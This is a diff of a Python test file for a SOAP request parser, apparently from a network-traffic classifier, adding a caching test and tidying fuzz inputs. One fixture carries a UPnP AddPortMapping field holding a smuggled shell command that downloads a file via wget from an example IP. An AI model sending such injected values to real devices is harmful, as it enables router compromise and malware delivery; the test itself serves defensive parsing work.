@@ -6,7 +6,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from teiten.classify.soap import MAX_ARGS, header_action, looks_like_soap, parse_soap
+from teiten.classify.soap import MAX_ARGS, _parse, header_action, looks_like_soap, parse_soap
 
 ENV = ('<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
        "<s:Body>{}</s:Body></s:Envelope>")  # fmt: skip
@@ -31,8 +31,10 @@ def test_any_prefix_gives_the_same_call(prefix: str) -> None:
         ns = f'xmlns:s="{WANIP}"'
     m = parse_soap(ENV.format(CALL.format(p=p, ns=ns)).encode(), f'"{WANIP}#AddPortMapping"')
     assert (m.action, m.namespace, m.notes) == ("AddPortMapping", WANIP, ())
-    assert m.arguments == {"NewRemoteHost": "",
-                           "NewInternalClient": "`cd /tmp && wget http://198.51.100.7/a`"}
+    assert m.arguments == {
+        "NewRemoteHost": "",
+        "NewInternalClient": "`cd /tmp && wget http://198.51.100.7/a`",
+    }
     assert m.header_action == f"{WANIP}#AddPortMapping"
     assert m.actions() == ("AddPortMapping", f"{WANIP}#AddPortMapping")
 
@@ -66,6 +68,15 @@ def test_bounds() -> None:
     assert parse_soap(deep).notes  # cut at 64 KiB, so not well-formed; no recursion
 
 
+def test_cached_result_equals_a_fresh_parse() -> None:
+    body = ENV.format(CALL.format(p="u:", ns=f'xmlns:u="{WANIP}"')).encode()
+    first, again = parse_soap(body, "a"), parse_soap(body, "a")
+    assert first is again and first == _parse(body, "a")
+    assert parse_soap(body, "b").header_action == "b"  # the header is part of the key
+    big = body.replace(b"<NewRemoteHost></NewRemoteHost>", b"<X>" + b"y" * 5000 + b"</X>")
+    assert parse_soap(big) is not parse_soap(big) and parse_soap(big) == parse_soap(big)
+
+
 def test_detection_and_header() -> None:
     assert looks_like_soap(b"", "x", None)
     assert looks_like_soap(b"<a/>", None, "text/xml; charset=utf-8")
@@ -80,8 +91,10 @@ def test_garbage_never_raises(data: bytes, action: str | None) -> None:
     assert len(m.args) <= MAX_ARGS
 
 
-@given(st.lists(st.sampled_from(["<a>", "</a>", "<u:B x='1'>", "</u:B>", "&amp;", "&x;", "<!DOCTYPE a>",
-                                 "<?xml version='1.0' encoding='nope'?>", "text", "<", ">", "]]>"]),
-                max_size=40))  # fmt: skip
+XML_PARTS = ["<a>", "</a>", "<u:B x='1'>", "</u:B>", "&amp;", "&x;", "<!DOCTYPE a>",
+             "<?xml version='1.0' encoding='nope'?>", "text", "<", ">", "]]>"]  # fmt: skip
+
+
+@given(st.lists(st.sampled_from(XML_PARTS), max_size=40))
 def test_xml_shaped_garbage_never_raises(parts: list[str]) -> None:
     parse_soap("".join(parts).encode())
